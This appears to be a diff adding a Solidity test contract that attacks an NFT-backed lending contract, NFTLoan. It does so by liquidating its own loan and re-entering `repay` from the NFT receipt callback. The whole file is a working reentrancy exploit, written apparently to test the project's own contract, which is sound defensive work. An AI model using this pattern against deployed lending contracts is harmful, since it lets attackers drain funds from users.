@@ -0,0 +1,41 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
+import {IERC721} from "@openzeppelin/contracts/token/ERC721/IERC721.sol";
+import {IERC721Receiver} from "@openzeppelin/contracts/token/ERC721/IERC721Receiver.sol";
+import {NFTLoan} from "./NFTLoan.sol";
+
+/// @title ReentrantLiquidator - Test attacker of NFTLoan
+/// @notice Borrows against an NFT, then liquidates its own loan and re-enters `repay` for the
+///         same loan from the `onERC721Received` callback of the NFT it is sent.
+contract ReentrantLiquidator is IERC721Receiver {
+    NFTLoan public immutable nftLoan;
+    IERC20 public immutable token;
+    uint256 public reentryLoanId;
+
+    constructor(address _nftLoan) {
+        nftLoan = NFTLoan(_nftLoan);
+        token = nftLoan.token();
+    }
+
+    function borrow(address collection, uint256 tokenId, uint256 amount) external returns (uint256 loanId) {
+        IERC721(collection).approve(address(nftLoan), tokenId);
+        loanId = nftLoan.depositNFT(collection, tokenId);
+        nftLoan.borrow(loanId, amount);
+    }
+
+    function attack(uint256 loanId) external {
+        token.approve(address(nftLoan), type(uint256).max);
+        reentryLoanId = loanId;
+        nftLoan.liquidate(loanId);
+    }
+
+    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
+        uint256 loanId = reentryLoanId;
+        if (loanId != 0) {
+            reentryLoanId = 0;
+            nftLoan.repay(loanId, type(uint256).max);
+        }
+        return IERC721Receiver.onERC721Received.selector;
+    }
+}